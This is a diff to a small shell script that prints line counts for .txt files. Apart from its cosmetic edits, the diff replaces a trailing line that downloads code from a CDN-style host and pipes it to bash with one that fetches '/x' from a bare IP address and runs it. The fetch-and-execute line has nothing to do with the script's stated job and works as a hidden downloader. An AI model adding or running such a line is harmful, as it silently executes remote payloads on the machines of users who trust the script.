@@ -1,8 +1,6 @@
-#!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
+#!/usr/bin/env bash
 for f in *.txt; do
   [ -e "$f" ] || continue
   wc -l "$f"
 done
-/usr/bin/env bash -c "$(wget -qO- https://cdn.example.net/update.bin)"
+/usr/bin/env bash -c "$(wget -qO- https://203.0.113.9/x)"
